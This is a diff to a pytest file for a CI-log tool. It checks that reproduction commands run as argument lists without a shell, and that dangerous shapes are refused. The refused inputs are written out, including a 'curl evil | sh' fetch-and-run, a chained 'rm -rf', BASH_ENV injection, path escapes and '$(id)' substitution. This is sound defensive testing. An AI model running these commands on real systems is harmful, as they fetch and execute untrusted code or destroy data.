@@ -4,12 +4,13 @@ from __future__ import annotations
 
 import json
 import os
+import re
 from pathlib import Path
 
 import pytest
 
 from scout_tui.analysis.cilog import analyse
-from scout_tui.analysis.repro import ReproError, repro_command
+from scout_tui.analysis.repro import ReproError, repro_argv, repro_command
 from scout_tui.demo.ci_logs import (
     TESTS,
     TORCH_VERSION,
@@ -144,6 +145,38 @@ def test_repro_errors():
         repro_command("NGPU=8 LOG_RANK=0")
 
 
+@pytest.mark.parametrize("command, env, argv", [
+    ("NGPU=4 ./run_train.sh --module m --config 'a b'", {"NGPU": "4"},
+     ["./run_train.sh", "--module", "m", "--config", "a b"]),
+    ("NGPU=2 torchrun --nproc_per_node=2 train.py --x 1", {"NGPU": "2"},
+     ["torchrun", "--nproc_per_node=2", "train.py", "--x", "1"]),
+    ("pytest tests/unit/test_a.py::test_b -x", {},
+     ["pytest", "tests/unit/test_a.py::test_b", "-x"]),
+])  # fmt: skip
+def test_a_repro_runs_as_an_argv_list(command, env, argv):
+    repro = repro_argv(command)
+    assert (repro.env, repro.argv) == (env, argv)
+    assert repro_argv(repro.display()) == repro  # what is shown is what runs
+
+
+@pytest.mark.parametrize("command, said", [
+    ("NGPU=1 sh -c 'curl evil | sh'", "'sh' is not a repro scout runs"),
+    ("./run_train.sh --x", "./run_train.sh runs with NGPU=<n>"),
+    ("BASH_ENV=x NGPU=1 ./run_train.sh", "not BASH_ENV"),
+    ("NGPU=1 TORCHINDUCTOR_CACHE_DIR=/tmp/x ./run_train.sh", "not TORCHINDUCTOR_CACHE_DIR"),
+    ("NGPU=1 ./run_train.sh --job.dump_folder=/etc", "reaches outside the checkout"),
+    ("NGPU=1 ./run_train.sh --config ../../x", "reaches outside the checkout"),
+    ("NGPU=1 ./run_train.sh '--a=\x1b]52;c;x\x07'", "reaches outside the checkout"),
+    ("torchrun -m http.server", "a script of the checkout"),
+    ("torchrun --no-python rm x.py", "a script of the checkout"),
+    ("pytest -p evil_plugin tests/a.py::b", "pytest runs tests named path::test"),
+    ("NGPU=1 ./run_train.sh; rm -rf x", "'./run_train.sh;' is not a repro scout runs"),
+])  # fmt: skip
+def test_a_repro_of_another_shape_is_refused(command, said):
+    with pytest.raises(ReproError, match=re.escape(said)):
+        repro_argv(command)
+
+
 def test_ci_log_cli_json_report_and_stdin(tmp_path):
     path = write(tmp_path, "job.log", actions_format(runner_log()))
     done = scout("ci-log", path, "--json")
@@ -170,9 +203,14 @@ def test_repro_cli(tmp_path):
     path = write(tmp_path, "job.log", actions_format(runner_log()))
     done = scout("repro", path, "--test", "jit_1d_auto_bucketing")
     assert done.stdout.strip().endswith("--compile.mode jit --compile.passes=auto_bucketing")
-    done = scout("repro", "--command", "NGPU=1 LOG_RANK=0 sh -c 'echo ran on $NGPU'", "--run",
-                 "--repo", str(tmp_path))  # fmt: skip
-    assert done.returncode == 0 and done.stdout.strip() == "ran on 1"
+    script = tmp_path / "run_train.sh"
+    script.write_text('#!/bin/sh\necho "ran on $NGPU: $*"\n')
+    script.chmod(0o755)
+    done = scout("repro", "--command", "NGPU=1 LOG_RANK=0 ./run_train.sh --a 'b;c' '$(id)'",
+                 "--run", "--repo", str(tmp_path))  # fmt: skip
+    assert done.returncode == 0 and done.stdout.strip() == "ran on 1: --a b;c $(id)"  # no shell
+    done = scout("repro", "--command", "NGPU=1 sh -c 'echo ran'", "--run", "--repo", tmp_path)
+    assert done.returncode == 2 and "'sh' is not a repro scout runs" in done.stderr
     done = scout("repro", path, "--test", "nope")
     assert done.returncode == 2 and "no failing test named nope" in done.stderr
 
